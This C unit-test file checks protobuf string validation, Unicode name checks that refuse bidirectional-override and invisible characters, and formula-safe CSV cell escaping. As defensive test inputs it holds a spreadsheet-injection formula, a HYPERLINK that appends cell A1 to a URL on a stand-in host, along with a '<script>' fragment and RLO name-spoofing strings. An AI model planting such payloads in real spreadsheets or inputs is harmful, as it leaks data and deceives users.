/* SPDX-License-Identifier: MIT */
/*
 * Unit tests of the shared input checks (proto/): pbcheck's byte-level walk
 * of encoded messages (NUL and invalid UTF-8 in any string field, at any
 * depth, named by its dotted path), text_check_name's refusal of invisible
 * and reordering characters in names (UTS #39), and csvcell's formula-safe
 * CSV cells, read back with libcsv.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <csv.h>

#include "csvcell.h"
#include "errors.h"
#include "events.pb-c.h"
#include "pbcheck.h"
#include "text.h"
#include "wire.pb-c.h"

/* Packs req, then replaces every '#' of the encoding with b: protobuf-c packs
 * C strings, so a NUL can only be put into the bytes afterwards. */
static uint8_t *pack_with(const ProtobufCMessage *m, char b, size_t *len)
{
    *len = protobuf_c_message_get_packed_size(m);
    uint8_t *buf = malloc(*len ? *len : 1);
    assert_non_null(buf);
    protobuf_c_message_pack(m, buf);
    for (size_t i = 0; i < *len; i++)
        if (buf[i] == '#')
            buf[i] = (uint8_t)b;
    return buf;
}

static int check_register_name(const char *name, char b, char *why, size_t why_len)
{
    Exemplar__Request req = EXEMPLAR__REQUEST__INIT;
    Exemplar__RegisterRequest reg = EXEMPLAR__REGISTER_REQUEST__INIT;
    req.protocol = EXEMPLAR__PROTOCOL_VERSION__PROTOCOL_V1;
    req.request_id = 7;
    req.body_case = EXEMPLAR__REQUEST__BODY_REGISTER;
    req.register_ = &reg;
    reg.unit = "01";
    reg.name = (char *)name;
    size_t len;
    uint8_t *buf = pack_with(&req.base, b, &len);
    int rc = pbcheck_strings(&exemplar__request__descriptor, buf, len, why, why_len);
    free(buf);
    return rc;
}

static void pbcheck_accepts_vietnamese_text(void **state)
{
    (void)state;
    char why[256];
    assert_int_equal(check_register_name("Lê Văn Tám", '#', why, sizeof(why)), 0);
    assert_int_equal(check_register_name("", '#', why, sizeof(why)), 0);
    assert_int_equal(pbcheck_strings(&exemplar__request__descriptor, NULL, 0, why, sizeof(why)), 0);
}

static void pbcheck_refuses_a_nul_naming_the_field(void **state)
{
    (void)state;
    char why[256];
    assert_int_equal(check_register_name("Lê Văn# <script>", '\0', why, sizeof(why)), -EX_EINVALID);
    assert_non_null(strstr(why, "register.name"));
    assert_non_null(strstr(why, "NUL"));
    /* the same bytes decode, cut: what protobuf-c alone would have stored */
    Exemplar__RegisterRequest reg = EXEMPLAR__REGISTER_REQUEST__INIT;
    reg.name = "Lê Văn# <script>";
    size_t len;
    uint8_t *buf = pack_with(&reg.base, '\0', &len);
    Exemplar__RegisterRequest *cut = exemplar__register_request__unpack(NULL, len, buf);
    assert_non_null(cut);
    assert_string_equal(cut->name, "Lê Văn");
    exemplar__register_request__free_unpacked(cut, NULL);
    free(buf);
}

static void pbcheck_refuses_invalid_utf8(void **state)
{
    (void)state;
    char why[256];
    assert_int_equal(check_register_name("Nguy#n", (char)0xff, why, sizeof(why)), -EX_EINVALID);
    assert_non_null(strstr(why, "register.name"));
    assert_non_null(strstr(why, "UTF-8"));
    assert_int_equal(check_register_name("#", (char)0xc0, why, sizeof(why)), -EX_EINVALID);
}

/* A string three levels down, in the second element of a repeated field. */
static void pbcheck_names_nested_and_repeated_fields(void **state)
{
    (void)state;
    Exemplar__Event e1 = EXEMPLAR__EVENT__INIT, e2 = EXEMPLAR__EVENT__INIT;
    Exemplar__TitleAwarded t = EXEMPLAR__TITLE_AWARDED__INIT;
    e1.publisher = "hr";
    e1.event_id = "a";
    e2.publisher = "hr";
    e2.event_id = "b";
    e2.detail_case = EXEMPLAR__EVENT__DETAIL_TITLE_AWARDED;
    e2.title_awarded = &t;
    t.title = "Chiến sĩ thi đua#";
    Exemplar__Event *ev[] = {&e1, &e2};
    Exemplar__PublishRequest pr = EXEMPLAR__PUBLISH_REQUEST__INIT;
    pr.n_events = 2;
    pr.events = ev;
    Exemplar__Request req = EXEMPLAR__REQUEST__INIT;
    req.protocol = EXEMPLAR__PROTOCOL_VERSION__PROTOCOL_V1;
    req.body_case = EXEMPLAR__REQUEST__BODY_PUBLISH;
    req.publish = &pr;
    char why[256];
    size_t len;
    uint8_t *buf = pack_with(&req.base, '\0', &len);
    assert_int_equal(pbcheck_strings(&exemplar__request__descriptor, buf, len, why, sizeof(why)),
                     -EX_EINVALID);
    assert_non_null(strstr(why, "publish.events[1].title_awarded.title"));
    free(buf);
    /* the event alone, as a feed sends it */
    buf = pack_with(&e2.base, '\0', &len);
    assert_int_equal(pbcheck_strings(&exemplar__event__descriptor, buf, len, why, sizeof(why)),
                     -EX_EINVALID);
    assert_non_null(strstr(why, "title_awarded.title"));
    free(buf);
    buf = pack_with(&e2.base, '!', &len);
    assert_int_equal(pbcheck_strings(&exemplar__event__descriptor, buf, len, why, sizeof(why)), 0);
    free(buf);
}

/* A full publish request (1000 events), the bad string in the last one:
 * the path names events[999], and the events before it cost no path. */
static void pbcheck_names_the_last_of_a_thousand_events(void **state)
{
    (void)state;
    enum { N = 1000 };
    static Exemplar__Event ev[N];
    static Exemplar__Event *v[N];
    Exemplar__TitleAwarded ok = EXEMPLAR__TITLE_AWARDED__INIT, bad = EXEMPLAR__TITLE_AWARDED__INIT;
    ok.title = "Chiến sĩ thi đua cơ sở";
    bad.title = "Chiến sĩ#thi đua";
    for (int i = 0; i < N; i++) {
        exemplar__event__init(&ev[i]);
        ev[i].publisher = "hr";
        ev[i].event_id = "e";
        ev[i].detail_case = EXEMPLAR__EVENT__DETAIL_TITLE_AWARDED;
        ev[i].title_awarded = i == N - 1 ? &bad : &ok;
        v[i] = &ev[i];
    }
    Exemplar__PublishRequest pr = EXEMPLAR__PUBLISH_REQUEST__INIT;
    pr.n_events = N;
    pr.events = v;
    Exemplar__Request req = EXEMPLAR__REQUEST__INIT;
    req.protocol = EXEMPLAR__PROTOCOL_VERSION__PROTOCOL_V1;
    req.body_case = EXEMPLAR__REQUEST__BODY_PUBLISH;
    req.publish = &pr;
    char why[256];
    size_t len;
    uint8_t *buf = pack_with(&req.base, '\0', &len);
    assert_int_equal(pbcheck_strings(&exemplar__request__descriptor, buf, len, why, sizeof(why)),
                     -EX_EINVALID);
    assert_non_null(strstr(why, "publish.events[999].title_awarded.title"));
    free(buf);
    buf = pack_with(&req.base, '!', &len);
    assert_int_equal(pbcheck_strings(&exemplar__request__descriptor, buf, len, why, sizeof(why)),
                     0);
    free(buf);
}

static void pbcheck_skips_unknown_fields_and_refuses_broken_encodings(void **state)
{
    (void)state;
    char why[256];
    /* field 999 (unknown), length-delimited, holding a NUL: not a string we know */
    static const uint8_t unknown[] = {0xba, 0x3e, 0x02, 'a', 0x00};
    assert_int_equal(
        pbcheck_strings(&exemplar__request__descriptor, unknown, sizeof(unknown), why, sizeof(why)),
        0);
    /* a length running past the end */
    static const uint8_t cut[] = {0x0a, 0x10, 'a'};
    assert_int_equal(
        pbcheck_strings(&exemplar__event__descriptor, cut, sizeof(cut), why, sizeof(why)),
        -EX_EMALFORMED);
    /* a group (wire type 3) */
    static const uint8_t group[] = {0x0b, 0x0c};
    assert_int_equal(
        pbcheck_strings(&exemplar__event__descriptor, group, sizeof(group), why, sizeof(why)),
        -EX_EMALFORMED);
    /* a varint that never ends */
    uint8_t endless[16];
    memset(endless, 0xff, sizeof(endless));
    endless[0] = 0x18;
    assert_int_equal(
        pbcheck_strings(&exemplar__event__descriptor, endless, sizeof(endless), why, sizeof(why)),
        -EX_EMALFORMED);
}

/* ---- text_check_name ------------------------------------------------------ */

static void name_refused(const char *s, const char *expect)
{
    char why[200], *nfc = (char *)1;
    int rc = text_check_name(s, 256, &nfc, why, sizeof(why));
    if (rc != -EX_EINVALID || !strstr(why, expect))
        fail_msg("\"%s\": expected invalid mentioning \"%s\", got %d \"%s\"", s, expect, rc, why);
    assert_null(nfc);
}

static void names_with_invisible_or_reordering_characters_are_refused(void **state)
{
    (void)state;
    name_refused("", "empty");
    name_refused("    ", "only spaces");
    name_refused("Nguy\xe1\xbb\x85n \xe2\x80\xae"
                 "cisum",
                 "U+202E"); /* RLO */
    name_refused("Tr\xe2\x80\xaa"
                 "an",
                 "U+202A");                                      /* LRE */
    name_refused("\xe2\x81\xa6L\xc3\xaa\xe2\x81\xa9", "U+2066"); /* LRI ... PDI */
    name_refused("L\xc3\xaa\xe2\x80\x8fV\xc4\x83n", "U+200F");   /* RLM */
    name_refused("\xd8\x9c"
                 "abc",
                 "U+061C"); /* ALM */
    name_refused("A\xe2\x80\x8b"
                 "B",
                 "U+200B"); /* ZWSP */
    name_refused("A\xe2\x80\x8d"
                 "B",
                 "U+200D"); /* ZWJ */
    name_refused("A\xe2\x81\xa0"
                 "B",
                 "U+2060");                          /* WJ */
    name_refused("\xef\xbb\xbfL\xc3\xaa", "U+FEFF"); /* BOM */
    name_refused("so\xc2\xad"
                 "ft",
                 "U+00AD");                                /* soft hyphen, Cf */
    name_refused("L\xc3\xaa\xc2\xa0V\xc4\x83n", "U+00A0"); /* no-break space */
    name_refused("a\xe2\x80\xa8"
                 "b",
                 "U+2028");                  /* line separator */
    name_refused("a\xee\x80\x80", "U+E000"); /* private use */
    name_refused("a\tb", "U+0009");
    name_refused("\xcc\x81"
                 "a",
                 "U+0301");                  /* a combining mark with nothing before it */
    name_refused("x\xef\xb8\x8f", "U+FE0F"); /* a variation selector */
    name_refused("\xff", "UTF-8");
}

static void vietnamese_names_are_accepted_in_nfc_and_trimmed(void **state)
{
    (void)state;
    char why[200], *nfc = NULL;
    /* "Lê Văn Tám" typed with separate combining marks (e + U+0302, a +
     * U+0306, a + U+0301) comes out composed */
    assert_int_equal(
        text_check_name("  Le\xcc\x82 Va\xcc\x86n Ta\xcc\x81m ", 256, &nfc, why, sizeof(why)), 0);
    assert_string_equal(nfc, "Lê Văn Tám");
    free(nfc);
    assert_int_equal(text_check_name("Nguyễn Thị Ánh Tuyết", 256, &nfc, why, sizeof(why)), 0);
    assert_string_equal(nfc, "Nguyễn Thị Ánh Tuyết");
    free(nfc);
    assert_int_equal(text_check_name("Phòng Cảnh sát PC-02 (Hà Nội)", 256, &nfc, why, sizeof(why)),
                     0);
    free(nfc);
    /* the limit applies to the NFC form: 3 combining sequences of 3 bytes
     * compose to 3 letters of 3 bytes */
    assert_int_equal(text_check_name("abcd", 3, &nfc, why, sizeof(why)), -EX_ETOOBIG);
    assert_int_equal(text_check_name("Le\xcc\x82", 3, &nfc, why, sizeof(why)), 0);
    assert_string_equal(nfc, "Lê");
    free(nfc);
}

/* ---- csvcell -------------------------------------------------------------- */

typedef struct {
    char cells[16][256];
    size_t n;
} cells_t;

static void required_text_of_only_white_space_is_refused(void **state)
{
    (void)state;
    char *out = NULL;
    assert_int_equal(text_normalize("   ", 100, true, true, &out), -EX_EINVALID);
    assert_null(out);
    assert_int_equal(text_normalize(" \n\t\u00a0\u3000", 100, true, true, &out), -EX_EINVALID);
    assert_null(out);
    assert_int_equal(text_normalize("   ", 100, false, true, &out), 0); /* optional: kept */
    free(out);
    assert_int_equal(text_normalize(" Giải pháp ", 100, true, true, &out), 0);
    free(out);
}

static void on_cell(void *s, size_t len, void *data)
{
    cells_t *c = data;
    assert_true(c->n < 16 && len < 256);
    memcpy(c->cells[c->n], s, len);
    c->cells[c->n][len] = '\0';
    c->n++;
}

static void csv_cells_cannot_be_formulas_and_round_trip(void **state)
{
    (void)state;
    static const char *const in[] = {
        "=HYPERLINK(\"http://x.example/?\"&A1,\"B\xe1\xba\xa5m v\xc3\xa0o \xc4\x91\xc3\xa2y\")",
        "+1",
        "-2",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "'=x",
        "''+y",
        "'plain",
        "Lê Văn",
        "",
        "42",
        "2026-12-07"};
    size_t n = sizeof(in) / sizeof(in[0]);
    char *text = NULL;
    size_t text_len = 0;
    FILE *f = open_memstream(&text, &text_len);
    assert_non_null(f);
    for (size_t i = 0; i < n; i++) {
        if (i)
            fputc(',', f);
        assert_int_equal(csvcell_fwrite(f, in[i]), 0);
    }
    fputs("\r\n", f);
    fclose(f);
    struct csv_parser p;
    cells_t c = {.n = 0};
    assert_int_equal(csv_init(&p, CSV_STRICT | CSV_STRICT_FINI), 0);
    assert_int_equal(csv_parse(&p, text, text_len, on_cell, NULL, &c), text_len);
    assert_int_equal(csv_fini(&p, on_cell, NULL, &c), 0);
    csv_free(&p);
    free(text);
    assert_int_equal(c.n, n);
    for (size_t i = 0; i < n; i++) {
        const char *cell = c.cells[i];
        if (strchr("=+-@\t\r", cell[0]) && cell[0])
            fail_msg("cell %zu \"%s\" starts with a formula character", i, cell);
        assert_string_equal(csvcell_unescape(cell), in[i]);
    }
    assert_string_equal(c.cells[0], "'=HYPERLINK(\"http://x.example/?\"&A1,\"B\xe1\xba\xa5m v\xc3"
                                    "\xa0o \xc4\x91\xc3\xa2y\")");
    assert_string_equal(c.cells[9], "Lê Văn");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(pbcheck_accepts_vietnamese_text),
        cmocka_unit_test(pbcheck_refuses_a_nul_naming_the_field),
        cmocka_unit_test(pbcheck_refuses_invalid_utf8),
        cmocka_unit_test(pbcheck_names_nested_and_repeated_fields),
        cmocka_unit_test(pbcheck_names_the_last_of_a_thousand_events),
        cmocka_unit_test(pbcheck_skips_unknown_fields_and_refuses_broken_encodings),
        cmocka_unit_test(names_with_invisible_or_reordering_characters_are_refused),
        cmocka_unit_test(vietnamese_names_are_accepted_in_nfc_and_trimmed),
        cmocka_unit_test(required_text_of_only_white_space_is_refused),
        cmocka_unit_test(csv_cells_cannot_be_formulas_and_round_trip),
    };
    return cmocka_run_group_tests_name("pbcheck", tests, NULL, NULL);
}
